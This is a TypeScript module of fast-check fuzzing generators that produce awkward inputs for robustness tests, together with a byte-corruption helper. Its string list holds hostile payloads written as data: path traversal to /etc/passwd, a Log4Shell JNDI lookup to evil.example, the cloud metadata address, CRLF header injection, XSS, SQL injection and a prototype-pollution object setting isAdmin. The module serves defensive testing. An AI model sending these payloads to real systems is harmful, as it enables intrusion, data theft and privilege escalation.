import * as fc from 'fast-check';

/** Words that programs stumble over: other objects' keys, ends of lines, quotes, encodings that are broken, paths that climb. */
const STUMBLING = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'a\r\nX-Injected: yes',
  'a\nfake log line',
  '\u0000',
  '\u001b[31mred',
  '%0d%0aSet-Cookie:%20a=b',
  '%00',
  '%E0%A4%A',
  '%',
  '..%2f..%2fetc%2fpasswd',
  '../../etc/passwd',
  '//evil.example/',
  '169.254.169.254',
  'evil@pontus-spaceport',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  `<img src=x onerror=alert(1)>`,
  `'; drop table sos.docks; --`,
  'NaN',
  'Infinity',
  '-0',
  '1e999',
  '9007199254740993',
  '99999999999999999999',
  '-1',
  '0x10',
  'ﬀ\u202e\ud800',
  '1'.repeat(3_000),
  'x'.repeat(9_000),
  '',
];

/** Any text, and often one that programs stumble over. */
export const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...STUMBLING) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
);

/** A text as a path or a query has it: usually encoded, at times as it is, but for what would end the request's first line. */
export const urlText = fc
  .tuple(text, fc.boolean())
  .map(([words, raw]) =>
    raw ? words.replace(/[\s\p{Cc}]/gu, '+') : encodeURIComponent(words.toWellFormed()),
  );

/** Any value of JSON, with keys and texts as above; `__proto__` is a key like any other. */
export const json = fc.oneof(
  fc.json({ maxDepth: 4 }),
  fc
    .tuple(text, fc.json({ maxDepth: 2 }))
    .map(
      ([key, value]) =>
        `{${JSON.stringify(key)}:${value},"__proto__":{"isAdmin":true},"constructor":${value}}`,
    ),
  fc.integer({ min: 1, max: 3_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.integer({ min: 1, max: 3_000 }).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  text,
);

/** Some bytes changed, left out, or put in; or the end cut off. */
export function damaged(bytes: fc.Arbitrary<Buffer>): fc.Arbitrary<Buffer> {
  const damage = fc.array(
    fc.tuple(
      fc.constantFrom('change', 'insert', 'remove', 'cut'),
      fc.nat(),
      fc.integer({ min: 0, max: 255 }),
    ),
    { minLength: 1, maxLength: 4 },
  );
  return fc.tuple(bytes, damage).map(([whole, changes]) => {
    let result = whole;
    for (const [how, where, byte] of changes) {
      const at = result.length === 0 ? 0 : where % result.length;
      const rest = result.subarray(how === 'insert' ? at : at + 1);
      if (how === 'cut') result = result.subarray(0, at);
      else if (how === 'remove') result = Buffer.concat([result.subarray(0, at), rest]);
      else result = Buffer.concat([result.subarray(0, at), Buffer.from([byte]), rest]);
    }
    return result;
  });
}
